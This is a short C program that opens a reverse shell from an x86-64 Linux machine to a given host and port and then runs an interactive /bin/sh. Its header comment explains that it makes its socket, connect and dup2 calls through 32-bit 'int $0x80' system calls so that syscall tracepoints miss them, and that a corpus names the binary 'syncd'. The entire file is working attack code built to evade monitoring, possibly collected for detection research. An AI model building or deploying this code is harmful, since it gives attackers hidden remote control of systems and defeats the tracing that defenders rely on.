/* A reverse shell through 32-bit system calls: socket, connect and dup2 onto stdin, stdout and
 * stderr made with `int $0x80` from this 64-bit program (no syscalls:* tracepoint sees a 32-bit
 * call), then exec /bin/sh. The address lives below 4 GiB (MAP_32BIT): 32-bit calls take
 * 32-bit pointers. x86-64 only.
 * Usage: revshell_compat HOST PORT   (the corpus names the binary "syncd") */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

static long call32(long nr, long a, long b, long c)
{
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c) : "memory");
    return r;
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: %s HOST PORT\n", argv[0]);
        return 2;
    }
    struct sockaddr_in *sa = mmap(0, 4096, PROT_READ | PROT_WRITE,
                                  MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (sa == MAP_FAILED)
        return 1;
    sa->sin_family = AF_INET;
    sa->sin_port = htons(atoi(argv[2]));
    if (inet_pton(AF_INET, argv[1], &sa->sin_addr) != 1)
        return 2;
    long s = call32(359, AF_INET, SOCK_STREAM, 0);                  /* socket */
    if (s < 0 || call32(362, s, (long)(unsigned long)sa, sizeof *sa) < 0) {  /* connect */
        fprintf(stderr, "connect failed\n");
        return 1;
    }
    for (long fd = 0; fd < 3; fd++)
        call32(63, s, fd, 0);                                         /* dup2 */
    execl("/bin/sh", "sh", "-i", (char *)NULL);
    return 127;
}
